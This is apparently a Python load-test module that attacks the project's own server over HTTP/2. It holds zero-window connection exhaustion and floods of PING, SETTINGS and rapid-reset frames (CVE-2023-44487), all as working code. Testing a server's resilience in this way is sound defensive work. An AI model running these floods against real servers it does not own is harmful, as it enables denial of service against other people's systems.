"""HTTP/2 used against its server (RFC 9113, 10.5): windows of nothing, floods of control frames.

At a door without a certificate it is spoken with prior knowledge.
"""

import asyncio
import time
from collections.abc import Callable
from functools import partial

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.settings import SettingCodes

from tests.load.attacks import raw
from tests.load.attacks.attack import Attack, Score, Stage, Target
from tests.load.attacks.network import OUTSIDER

WINDOWS = 120
STREAMS = 32
FLOODERS = 4
_READ = 65_536

Flood = Callable[[H2Connection, Target], None]


async def _open(target: Target, **settings: int) -> tuple[raw.Line, H2Connection]:
    line = await raw.Line.open(target, target.http_port, OUTSIDER, alpn="h2")
    connection = H2Connection(H2Configuration(client_side=True))
    for name, value in settings.items():
        connection.local_settings[SettingCodes[name]] = value
    connection.initiate_connection()
    await line.send(connection.data_to_send())
    return line, connection


def _request(connection: H2Connection, target: Target, path: str) -> int:
    stream: int = connection.get_next_available_stream_id()
    scheme = "https" if target.certificate else "http"
    authority = f"{target.host}:{target.http_port}"
    headers = [(":method", "GET"), (":path", path), (":scheme", scheme), (":authority", authority)]
    connection.send_headers(stream, headers, end_stream=True)
    return stream


async def windows(target: Target, for_s: float) -> Score:
    """Large answers, none of which may be sent."""
    score, until = Score(), time.monotonic() + for_s

    async def ask(_: int) -> raw.Line:
        line, connection = await _open(target, INITIAL_WINDOW_SIZE=0)
        connection.receive_data(await asyncio.wait_for(line.reader.read(_READ), raw.PATIENCE_S))
        for _ in range(STREAMS):
            _request(connection, target, f"/api/debates/{target.code}")
        data = connection.data_to_send()
        await line.send(data)
        score["kB"] += len(data) // 1_000
        return line

    lines = await raw.all_at_once(WINDOWS, until, score, ask)
    await raw.hold(lines, until, score)
    return score


async def _flood(target: Target, for_s: float, flood: Flood) -> Score:
    score, ends = Score(), time.monotonic() + for_s

    async def one(_: int) -> None:
        line, connection = await _open(target)
        reading = asyncio.create_task(_read(line))
        try:
            while time.monotonic() < ends:
                flood(connection, target)
                data = connection.data_to_send()
                await line.send(data)
                score["kB"] += len(data) // 1_000
                if reading.done():
                    raise ConnectionError
                await asyncio.sleep(0)
        finally:
            reading.cancel()
            line.end()

    await raw.over_and_over(FLOODERS, for_s, score, one)
    return score


async def _read(line: raw.Line) -> None:
    while await line.reader.read(_READ):
        pass


def _pings(connection: H2Connection, _: Target) -> None:
    for number in range(200):
        connection.ping(number.to_bytes(8, "big"))


def _settings(connection: H2Connection, _: Target) -> None:
    for value in range(200):
        connection.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 65_535 + value})


def _resets(connection: H2Connection, target: Target) -> None:
    """Asked, and taken back at once (CVE-2023-44487)."""
    for _ in range(20):
        connection.reset_stream(_request(connection, target, f"/{target.code}"))


_FLOODS: dict[str, tuple[str, Flood]] = {
    "pings": ("PING", _pings),
    "settings": ("SETTINGS", _settings),
    "resets": ("requests that are taken back at once", _resets),
}


def _at(stage: Stage, name: str, how: str) -> list[Attack]:
    held = (
        f"{WINDOWS} connections {how} that ask {STREAMS} times for the document, with a window of 0"
    )
    return [
        Attack(f"{name} windows", held, windows, stage=stage),
        *(
            Attack(f"{name} {key}", f"a flood of {what} {how}", partial(_flood, flood=flood), stage)
            for key, (what, flood) in _FLOODS.items()
        ),
    ]


ATTACKS = (
    *_at("rich", "h2c", "in HTTP/2 without TLS"),
    *_at("encrypted", "h2", "in HTTP/2 over TLS"),
)
